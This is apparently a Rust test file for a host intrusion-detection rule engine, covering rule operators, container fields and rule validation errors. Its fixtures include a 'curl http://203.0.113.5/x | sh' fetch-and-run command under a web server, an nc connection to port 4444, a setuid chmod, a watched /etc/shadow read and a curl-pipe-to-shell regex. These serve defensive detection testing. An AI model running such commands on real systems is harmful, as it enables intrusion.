//! Table-driven tests of the rule language: every operator and combinator
//! against events, and every validation error with the key it names.

use std::path::Path;
use std::sync::Arc;

use super::fields::Scratch;
use super::*;
use crate::model::event::{Body, Creds, Event, ExecBody, FileBody, FileOp, FileTruncation, Image};
use crate::model::proctable::{Origin, Process};

pub(super) fn process(
    pid: u32,
    exe: &str,
    args: &[&str],
    parent: Option<Arc<Process>>,
) -> Arc<Process> {
    let chain_len = parent.as_ref().map_or(0, |p| p.chain_len + 1);
    Arc::new(Process {
        pid,
        ppid: parent.as_ref().map_or(1, |p| p.pid),
        start_ns: 0,
        start_exact: true,
        start_time_ns: 0,
        image: Arc::new(Image {
            executable: exe.into(),
            exe: exe.into(),
            name: exe.rsplit('/').next().unwrap().into(),
            args: args.iter().map(|a| a.to_string()).collect(),
            env_vars: Vec::new(),
            truncated: Default::default(),
            hash: Default::default(),
            working_directory: String::new(),
            file: None,
        }),
        creds: Some(Creds {
            uid: 33,
            gid: 33,
            euid: 0,
            egid: 33,
            login_uid: None,
            session_id: None,
        }),
        cgroup_id: Some(7),
        cgroup: None,
        ns: None,
        parent,
        origin: Origin::Exec,
        chain_len,
        entity_id: Default::default(),
    })
}

/// `sh -c 'curl http://x | sh'` under php-fpm under nginx.
fn shell_exec() -> Event {
    let nginx = process(10, "/usr/sbin/nginx", &["nginx: worker"], None);
    let php = process(20, "/usr/sbin/php-fpm8.2", &["php-fpm"], Some(nginx));
    let sh = process(
        30,
        "/bin/sh",
        &["sh", "-c", "curl http://203.0.113.5/x | sh"],
        Some(php),
    );
    Event {
        seq: 1,
        time_ns: 0,
        ktime_ns: 0,
        pid: 30,
        tid: 30,
        body: Body::Exec(ExecBody {
            image: sh.image.clone(),
            ppid: 20,
            start_ns: 0,
            parent_start_ns: 0,
            creds: sh.creds.unwrap(),
            cgroup_id: 7,
            ns: crate::testkit::NS,
            argc: 3,
            stdio: Default::default(),
        }),
        process: Some(sh),
    }
}

fn chmod(path: &str, mode: u32) -> Event {
    let p = process(40, "/usr/bin/chmod", &["chmod", "u+s", path], None);
    Event {
        seq: 2,
        time_ns: 0,
        ktime_ns: 0,
        pid: 40,
        tid: 40,
        body: Body::File(FileBody {
            op: FileOp::Chmod,
            syscall: "fchmodat",
            path: path.into(),
            original_path: None,
            target_path: None,
            result: 0,
            open_flags: 0,
            mode: Some(mode),
            owner: None,
            group: None,
            at_flags: 0,
            resolved: false,
            unfiltered: false,
            watched: None,
            xattr: None,
            truncated: FileTruncation::default(),
        }),
        process: Some(p),
    }
}

fn connect(remote: &str) -> Event {
    let p = process(50, "/usr/bin/nc", &["nc", "x", "4444"], None);
    Event {
        seq: 3,
        time_ns: 0,
        ktime_ns: 0,
        pid: 50,
        tid: 50,
        body: Body::Net(crate::testkit::connect_body(remote)),
        process: Some(p),
    }
}

fn set(events: &str, conds: &str) -> RuleSet {
    let text = format!(
        "[[rules]]\nid = \"t\"\nname = \"T\"\nseverity = \"low\"\nevents = {events}\n{conds}"
    );
    let rules = parse_file(Path::new("/r/t.toml"), &text)
        .unwrap_or_else(|e| panic!("{}\n{text}", RuleErrors(e)));
    RuleSet::from_rules(rules)
}

fn hits(s: &RuleSet, ev: &Event) -> bool {
    let mut out = Vec::new();
    s.matches(ev, &mut Scratch::default(), &mut out);
    !out.is_empty()
}

/// (condition, event, expected) for every operator and combinator.
#[test]
fn operators_and_combinators() {
    let exec = shell_exec();
    let suid = chmod("/usr/local/bin/x", 0o4755);
    let plain = chmod("/usr/local/bin/x", 0o755);
    let c4444 = connect("203.0.113.9:4444");
    let c443 = connect("10.1.2.3:443");
    let t = |field: &str, op: &str| format!("[[rules.all]]\nfield = \"{field}\"\n{op}\n");
    let cases: Vec<(&str, String, &Event, bool)> = vec![
        (
            "[\"exec\"]",
            t("process.name", "equals = \"sh\""),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.name", "equals = \"bash\""),
            &exec,
            false,
        ),
        (
            "[\"exec\"]",
            t("process.name", "in = [\"bash\", \"sh\"]"),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.executable", "prefix = \"/bin/\""),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.executable", "suffix = \"/sh\""),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.command_line", "contains = \"| sh\""),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t(
                "process.command_line",
                "regex = '(curl|wget) .*\\| *(ba)?sh'",
            ),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.args", "equals = \"-c\""),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.args", "glob = \"-?\""),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.parent.name", "glob = \"php-fpm*\""),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.parent.executable", "equals = \"/usr/sbin/nginx\""),
            &exec,
            false,
        ),
        (
            "[\"exec\"]",
            t("process.ancestors.name", "in = [\"nginx\", \"apache2\"]"),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.ancestors.pid", "equals = 10"),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.ancestors.executable", "equals = \"/bin/sh\""),
            &exec,
            false,
        ),
        (
            "[\"exec\"]",
            t("process.user.id", "equals = \"0\""),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            t("process.real_user.id", "range = [1, 999]"),
            &exec,
            true,
        ),
        ("[\"exec\"]", t("user.id", "gte = 1000"), &exec, false),
        ("[\"exec\"]", t("user.id", "lt = 34"), &exec, true),
        ("[\"exec\"]", t("process.args_count", "gt = 2"), &exec, true),
        (
            "[\"exec\"]",
            t("rand_guard.process.login_uid", "exists = false"),
            &exec,
            true,
        ),
        ("[\"exec\"]", t("process.pid", "exists = true"), &exec, true),
        (
            "[\"chmod\"]",
            t("file.mode", "bits_any = \"6000\""),
            &suid,
            true,
        ),
        (
            "[\"chmod\"]",
            t("file.mode", "bits_any = \"6000\""),
            &plain,
            false,
        ),
        (
            "[\"chmod\"]",
            t("file.mode", "bits_all = \"0755\""),
            &plain,
            true,
        ),
        (
            "[\"chmod\"]",
            t("file.mode", "equals = \"4755\""),
            &suid,
            true,
        ),
        (
            "[\"chmod\"]",
            t("file.directory", "equals = \"/usr/local/bin\""),
            &suid,
            true,
        ),
        ("[\"chmod\"]", t("file.name", "equals = \"x\""), &suid, true),
        (
            "[\"file\"]",
            t("event.outcome", "equals = \"success\""),
            &suid,
            true,
        ),
        (
            "[\"connect\"]",
            t("destination.port", "in = [4444, 1337]"),
            &c4444,
            true,
        ),
        (
            "[\"connect\"]",
            t("destination.port", "in = [4444, 1337]"),
            &c443,
            false,
        ),
        (
            "[\"connect\"]",
            t("destination.ip", "cidr = [\"10.0.0.0/8\"]"),
            &c443,
            true,
        ),
        (
            "[\"connect\"]",
            t("destination.ip", "cidr = [\"10.0.0.0/8\"]"),
            &c4444,
            false,
        ),
        (
            "[\"connect\"]",
            t("destination.ip", "equals = \"203.0.113.9\""),
            &c4444,
            true,
        ),
        (
            "[\"network\"]",
            t("network.transport", "equals = \"tcp\""),
            &c443,
            true,
        ),
        (
            "[\"network\"]",
            t("network.direction", "equals = \"egress\""),
            &c443,
            true,
        ),
        // Combinators.
        (
            "[\"exec\"]",
            "[[rules.any]]\nfield = \"process.name\"\nequals = \"bash\"\n\
             [[rules.any]]\nfield = \"process.name\"\nequals = \"sh\"\n"
                .into(),
            &exec,
            true,
        ),
        (
            "[\"exec\"]",
            "[rules.not]\nfield = \"process.name\"\nequals = \"sh\"\n".into(),
            &exec,
            false,
        ),
        (
            "[\"exec\"]",
            format!(
                "{}[[rules.all]]\n[[rules.all.any]]\nfield = \"process.parent.name\"\n\
                 equals = \"nope\"\n[[rules.all.any]]\n[rules.all.any.not]\n\
                 field = \"user.id\"\nequals = 0\n",
                t("process.name", "equals = \"sh\"")
            ),
            &exec,
            true,
        ),
        // A rule only sees the actions it names.
        (
            "[\"fork\"]",
            t("process.name", "equals = \"sh\""),
            &exec,
            false,
        ),
    ];
    for (events, conds, ev, want) in cases {
        let s = set(events, &conds);
        assert_eq!(hits(&s, ev), want, "events = {events}\n{conds}");
    }
}

/// The container and unit fields, and the "in a container" test.
#[test]
fn container_and_unit_fields() {
    let host = shell_exec();
    let sh = host.process.clone().unwrap();
    let web = Event {
        process: Some(crate::testkit::in_container(
            &sh,
            "web-1",
            "localhost/busy:1",
        )),
        ..host.clone()
    };
    let unit = Event {
        process: Some(crate::testkit::in_unit(&sh, "php-fpm.service")),
        ..host.clone()
    };
    let cond = |c: &str| format!("[[rules.all]]\n{c}\n");
    let cases = [
        (
            "field = \"container.id\"\nexists = true",
            [false, true, false],
        ),
        (
            "field = \"container.id\"\nexists = false",
            [true, false, true],
        ),
        (
            &*format!(
                "field = \"container.id\"\nequals = \"{}\"",
                crate::testkit::CONTAINER_ID
            ),
            [false, true, false],
        ),
        (
            "field = \"container.name\"\nprefix = \"web-\"",
            [false, true, false],
        ),
        (
            "field = \"container.image.name\"\nglob = \"localhost/*\"",
            [false, true, false],
        ),
        (
            "field = \"container.runtime\"\nequals = \"podman\"",
            [false, true, false],
        ),
        (
            "field = \"rand_guard.systemd.unit\"\nsuffix = \".service\"",
            [false, false, true],
        ),
        (
            "field = \"rand_guard.process.cgroup_path\"\nprefix = \"/system.slice/\"",
            [false, false, true],
        ),
    ];
    for (c, want) in cases {
        let s = set("[\"exec\"]", &cond(c));
        let got = [&host, &web, &unit].map(|ev| hits(&s, ev));
        assert_eq!(got, want, "{c}");
    }
    // Strings only: a number test on a container field is refused.
    let e = error_of(
        "[[rules]]\nid = \"t\"\nname = \"T\"\nseverity = \"low\"\nevents = [\"exec\"]\n\
         [[rules.all]]\nfield = \"container.name\"\ngt = 3\n",
    );
    assert!(e.to_string().contains("container.name"), "{e}");
}

/// A user rule can tell watched reads from writes, and name the file.
#[test]
fn watched_reads_by_flags_and_watched_path() {
    let mut read = chmod("/var/tmp/.s", 0);
    if let Body::File(f) = &mut read.body {
        f.op = FileOp::Open;
        f.mode = None;
        f.open_flags = 0o2000000; // O_RDONLY | O_CLOEXEC
        f.watched = Some("/etc/shadow".into());
    }
    let mut write = read.clone();
    if let Body::File(f) = &mut write.body {
        f.open_flags = 0o1101;
        f.watched = None;
    }
    let by_path = set(
        "[\"open\"]",
        "[[rules.all]]\nfield = \"rand_guard.file.watched_path\"\nequals = \"/etc/shadow\"\n",
    );
    assert!(hits(&by_path, &read));
    assert!(!hits(&by_path, &write));
    let writes = set(
        "[\"open\"]",
        "[[rules.any]]\nfield = \"rand_guard.file.open_flags\"\nbits_any = \"O_WRONLY|O_RDWR|O_CREAT|O_TRUNC\"\n",
    );
    assert!(!hits(&writes, &read));
    assert!(hits(&writes, &write));
}

#[test]
fn matching_reuses_its_buffers() {
    // The command line is assembled into the scratch buffer; once it has
    // grown, later matches write into the same allocation. Warmed by a
    // longer command line first, so that a buffer allocated afresh (or
    // shrunk) for the shorter one would show as a smaller capacity or a
    // moved pointer; the same length alone would not show it.
    let s = set(
        "[\"exec\"]",
        "[[rules.all]]\nfield = \"process.command_line\"\ncontains = \"curl\"\n",
    );
    let ev = shell_exec();
    let mut long = shell_exec();
    long.process = Some(process(
        31,
        "/bin/sh",
        &["sh", "-c", &"curl ".repeat(64)],
        None,
    ));
    let mut scratch = Scratch::default();
    let mut out = Vec::with_capacity(4);
    s.matches(&long, &mut scratch, &mut out);
    assert_eq!(out, [0]);
    let cap = scratch.capacity();
    assert!(cap >= "sh -c ".len() + 5 * 64, "{cap}");
    let ptr = scratch.command_line(&long).unwrap().as_ptr();
    let out_ptr = out.as_ptr();
    for _ in 0..100 {
        out.clear();
        s.matches(&ev, &mut scratch, &mut out);
        assert_eq!(out, [0]);
        assert_eq!(scratch.capacity(), cap);
        assert_eq!(scratch.command_line(&ev).unwrap().as_ptr(), ptr);
        assert_eq!(out.as_ptr(), out_ptr);
    }
    assert_eq!(
        scratch.command_line(&ev).unwrap(),
        "sh -c curl http://203.0.113.5/x | sh"
    );
}

fn error_of(text: &str) -> RuleError {
    match parse_file(Path::new("/r/bad.toml"), text) {
        Ok(_) => panic!("accepted:\n{text}"),
        Err(mut e) => e.remove(0),
    }
}

const HEAD: &str = "[[rules]]\nid = \"r1\"\nname = \"R\"\nseverity = \"high\"\n";

#[test]
fn validation_names_file_rule_and_key() {
    let cases: &[(&str, Option<&str>, &str)] = &[
        // (rule body after HEAD, key, reason contains)
        (
            "events = [\"exec\"]\nbogus = 1\n[[rules.all]]\nfield = \"process.name\"\nequals = \"x\"\n",
            Some("bogus"),
            "unknown field `bogus`",
        ),
        (
            "events = [\"exec\"]\n[[rules.all]]\nfield = \"process.nam\"\nequals = \"x\"\n",
            Some("all[0].field"),
            "unknown field \"process.nam\"",
        ),
        (
            "events = [\"exec\"]\n[[rules.all]]\nfield = \"file.path\"\nprefix = \"/etc\"\n",
            Some("all[0].field"),
            "file.path does not exist for event exec",
        ),
        (
            "events = [\"exec\"]\n[[rules.all]]\nfield = \"process.name\"\nregex = \"(\"\n",
            Some("all[0].regex"),
            "invalid regex",
        ),
        (
            "events = [\"exec\"]\n[[rules.all]]\nfield = \"process.name\"\nglob = \"[\"\n",
            Some("all[0].glob"),
            "invalid glob",
        ),
        (
            "events = [\"exec\"]\n[[rules.all]]\nfield = \"process.name\"\ngt = 3\n",
            Some("all[0].gt"),
            "gt does not apply to process.name, which is a string",
        ),
        (
            "events = [\"exec\"]\n[[rules.all]]\nfield = \"process.name\"\nequals = \"a\"\nprefix = \"b\"\n",
            Some("all[0].prefix"),
            "one operator per test",
        ),
        (
            "events = [\"exec\"]\n[[rules.all]]\nfield = \"user.id\"\nequals = \"root\"\n",
            Some("all[0].equals"),
            "user.id is a number",
        ),
        (
            "events = [\"exec\"]\n[[rules.all]]\nfield = \"process.name\"\n",
            Some("all[0]"),
            "needs an operator",
        ),
        ("events = [\"exec\"]\n", Some("all"), "needs conditions"),
        (
            "events = []\n[[rules.all]]\nfield = \"process.pid\"\nexists = true\n",
            Some("events"),
            "must name",
        ),
        (
            "events = [\"exce\"]\n[[rules.all]]\nfield = \"process.pid\"\nexists = true\n",
            Some("events[0]"),
            "unknown event \"exce\"",
        ),
        (
            "events = [\"exec\"]\ntechniques = [\"1059\"]\n[[rules.all]]\nfield = \"process.pid\"\nexists = true\n",
            Some("techniques[0]"),
            "not an ATT&CK technique id",
        ),
        (
            "events = [\"exec\"]\nrate_limit = { burst = 0, per_minute = 1.0 }\n[[rules.all]]\nfield = \"process.pid\"\nexists = true\n",
            Some("rate_limit"),
            "burst must be at least 1",
        ),
    ];
    for (body, key, reason) in cases {
        let text = format!("{HEAD}{body}");
        let e = error_of(&text);
        assert_eq!(e.file, Path::new("/r/bad.toml"));
        assert_eq!(e.rule.as_deref(), Some("r1"), "{e}");
        assert_eq!(e.key.as_deref(), *key, "{e}");
        assert!(e.reason.contains(reason), "{e}");
        let shown = e.to_string();
        assert!(shown.starts_with("rules file /r/bad.toml"), "{shown}");
        assert!(shown.contains("rule `r1`"), "{shown}");
    }
    // A bad severity names the rule by its id too.
    let e = error_of(
        "[[rules]]\nid = \"r2\"\nname = \"R\"\nseverity = \"urgent\"\nevents = [\"exec\"]\n",
    );
    assert_eq!(
        (e.rule.as_deref(), e.key.as_deref()),
        (Some("r2"), Some("severity"))
    );
    assert!(e.reason.contains("unknown variant `urgent`"), "{e}");
}

#[test]
fn directories_load_sorted_and_reject_duplicates() {
    let dir = tempfile::tempdir().unwrap();
    let rule = |id: &str| {
        format!(
            "[[rules]]\nid = \"{id}\"\nname = \"N\"\nseverity = \"low\"\nevents = [\"exec\"]\n\
             [[rules.all]]\nfield = \"process.name\"\nequals = \"x\"\n"
        )
    };
    std::fs::write(dir.path().join("b.toml"), rule("two")).unwrap();
    std::fs::write(dir.path().join("a.toml"), rule("one")).unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a rules file").unwrap();
    let set = RuleSet::load_dir(dir.path()).unwrap();
    let ids: Vec<&str> = set.rules().iter().map(|r| r.meta.id.as_str()).collect();
    assert_eq!(ids, ["one", "two"]);
    assert_eq!(
        set.rules()[0].meta.source,
        dir.path().join("a.toml").display().to_string()
    );

    std::fs::write(dir.path().join("c.toml"), rule("one")).unwrap();
    let e = RuleSet::load_dir(dir.path()).unwrap_err();
    assert_eq!(e.0.len(), 1);
    assert_eq!(e.0[0].file, dir.path().join("c.toml"));
    assert_eq!(e.0[0].key.as_deref(), Some("id"));
    assert!(
        e.0[0].reason.contains("duplicate id, first defined in"),
        "{e}"
    );

    std::fs::write(dir.path().join("c.toml"), rule("rg-persist-cron")).unwrap();
    let e = RuleSet::load_dir(dir.path()).unwrap_err();
    assert!(
        e.to_string().contains("is the id of a built-in detection"),
        "{e}"
    );

    // A missing directory is no rules; a disabled rule is left out.
    assert!(
        RuleSet::load_dir(&dir.path().join("nope"))
            .unwrap()
            .is_empty()
    );
    std::fs::write(
        dir.path().join("c.toml"),
        rule("three").replace("severity", "enabled = false\nseverity"),
    )
    .unwrap();
    assert_eq!(RuleSet::load_dir(dir.path()).unwrap().len(), 2);
}

/// Ids are unique whether or not the rules are enabled: enabling the
/// disabled copy later must not be what reveals the clash (and then fail
/// a reload), and `rules check` must show it now.
#[test]
fn a_disabled_rule_still_claims_its_id() {
    let rule = |id: &str, enabled: bool| {
        format!(
            "[[rules]]\nid = \"{id}\"\nname = \"N\"\nseverity = \"low\"\nenabled = {enabled}\n\
             events = [\"exec\"]\n[[rules.all]]\nfield = \"process.name\"\nequals = \"x\"\n"
        )
    };
    let dup = |file: &Path, first: &Path| RuleError {
        file: file.to_path_buf(),
        rule: Some("one".into()),
        key: Some("id".into()),
        line: None,
        reason: format!("duplicate id, first defined in {}", first.display()),
    };
    for (a_on, c_on) in [(true, false), (false, true), (false, false)] {
        let dir = tempfile::tempdir().unwrap();
        let (a, c) = (dir.path().join("a.toml"), dir.path().join("c.toml"));
        std::fs::write(&a, rule("one", a_on)).unwrap();
        std::fs::write(&c, rule("one", c_on)).unwrap();
        let e = RuleSet::load_dir(dir.path()).unwrap_err();
        assert_eq!(e.0, [dup(&c, &a)], "a enabled {a_on}, c enabled {c_on}");
    }
    // Two in one file.
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a.toml");
    std::fs::write(&a, rule("one", true) + &rule("one", false)).unwrap();
    let e = RuleSet::load_dir(dir.path()).unwrap_err();
    assert_eq!(e.0, [dup(&a, &a)]);
    // A built-in's id, disabled.
    std::fs::write(&a, rule("rg-persist-cron", false)).unwrap();
    let e = RuleSet::load_dir(dir.path()).unwrap_err();
    assert_eq!(
        e.0,
        [RuleError {
            file: a.clone(),
            rule: Some("rg-persist-cron".into()),
            key: Some("id".into()),
            line: None,
            reason: "is the id of a built-in detection".into(),
        }]
    );
}

#[test]
fn syntax_errors_have_a_line() {
    let e = error_of("[[rules]]\nid = \"x\"\nname = 1 2\n");
    assert_eq!(e.line, Some(3));
}
